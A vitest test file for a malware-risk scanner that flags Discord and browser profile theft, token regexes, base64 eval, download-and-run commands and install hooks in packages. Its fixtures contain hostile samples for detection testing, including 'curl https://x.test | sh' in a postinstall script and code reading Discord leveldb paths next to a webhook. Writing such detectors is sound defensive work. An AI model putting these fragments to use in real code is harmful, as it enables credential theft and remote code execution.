import { describe, expect, it } from "vitest";
import { riskOf } from "./index.ts";

const kindsOf = (...files: [string, string][]) =>
  riskOf(files.map(([path, text]) => ({ path, text }))).points.map(point => point.kind);

const encoded = Buffer.from("console.log('hidden'); ".repeat(20)).toString("base64");

describe("riskOf", () => {
  it.each([
    [
      "a folder of Discord and a webhook",
      ["profile_theft"],
      `const p = process.env.APPDATA + "\\\\discord\\\\Local Storage\\\\leveldb";\nnew WebhookClient({ url });`,
    ],
    [
      "a browser's folder in pieces",
      ["profile_theft"],
      `fs.readdirSync(path.join(home, "Chrome", "User Data"));\nfetch(url, { method: "POST" });`,
    ],
    ["a browser's folder alone", ["profile_folder"], `open("Firefox/Profiles")`],
    ["a pattern for tokens", ["token_search"], String.raw`const r = /[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g;`],
    ["base64 that is run", ["encoded_eval"], `eval(Buffer.from(data, "base64").toString())`],
    [
      "a long text that is run",
      ["encoded_eval"],
      `const code = "${encoded}";\nnew Function(decode(code))();`,
    ],
    [
      "a download that is started",
      ["download_and_run"],
      `require("child_process").exec("curl -o a.exe https://x.test/a.exe && a.exe")`,
    ],
    [
      "names that nobody chose",
      ["obfuscated"],
      Array.from({ length: 30 }, (_, n) => `var _0x${(4096 + n).toString(16)} = ${n};`).join("\n"),
    ],
    ["a minified file", ["minified_source"], `function a(b){return b+1}`.repeat(200)],
  ])("sees %s", (_, kinds, text) => expect(kindsOf(["src/index.js", text])).toEqual(kinds));

  it("sees theft though reading and sending stand in two files", () => {
    expect(kindsOf(["a.js", `dir("google/Chrome/User Data")`], ["b.js", "axios.post(url, data)"])).toEqual([
      "profile_theft",
    ]);
  });

  it("sees Python", () => {
    expect(kindsOf(["a.py", `exec(base64.b64decode(x))\nos.system("curl https://x.test | sh")`])).toEqual([
      "encoded_eval",
      "download_and_run",
    ]);
  });

  it("tells what a package runs when it is installed", () => {
    const manifest = (script: string) => JSON.stringify({ scripts: { postinstall: script } });
    expect(kindsOf(["package.json", manifest("node build.js")])).toEqual(["install_script"]);
    expect(kindsOf(["bot/package.json", manifest("curl https://x.test/a.sh | sh")])).toEqual([
      "install_download",
    ]);
    expect(kindsOf(["package.json", JSON.stringify({ scripts: { start: "node ." } })])).toEqual([]);
  });

  it.each([
    ["a bot that sends to its webhook", "index.js", "new WebhookClient({ url: config.url }).send('hi')"],
    ["a bot that fetches", "index.js", "const answer = await fetch('https://api.example.com');"],
    ["a command that evaluates for its owner", "eval.js", "const result = await eval(code);"],
    ["a child process", "shard.js", "const { fork } = require('child_process');"],
    ["a picture in a style sheet", "a.css", `a { background: url("data:image/png;base64,${encoded}") }`],
    ["a named minified file", "a.min.js", "function a(b){return b+1}".repeat(200)],
    ["words about it", "README.md", "Never share %appdata%/discord/Local Storage with a webhook."],
  ])("lets %s pass", (_, path, text) => expect(riskOf([{ path, text }])).toEqual({ score: 0, points: [] }));

  it("explains each point with its place, worst first, and never exceeds 100", () => {
    const risk = riskOf([
      { path: "a.js", text: `\n\n"discord/Local Storage"; fetch(x);\neval(atob(y))` },
      { path: "package.json", text: `{\n "scripts": { "install": "curl https://x.test | sh" } }` },
    ]);
    expect(risk).toEqual({
      score: 100,
      points: [
        { kind: "profile_theft", score: 70, path: "a.js", line: 3 },
        { kind: "install_download", score: 50, path: "package.json", line: 2 },
        { kind: "encoded_eval", score: 45, path: "a.js", line: 4 },
      ],
    });
  });

  it("reads hostile texts to their end", () => {
    const million = 1_000_000;
    for (const text of [
      "eval(".repeat(million / 5),
      "curl ".repeat(million / 5),
      "A".repeat(million),
      `"install":"${"\\".repeat(million)}`,
    ])
      for (const path of ["a.js", "package.json"]) expect(riskOf([{ path, text }]).score).toBeLessThan(100);
  });
});
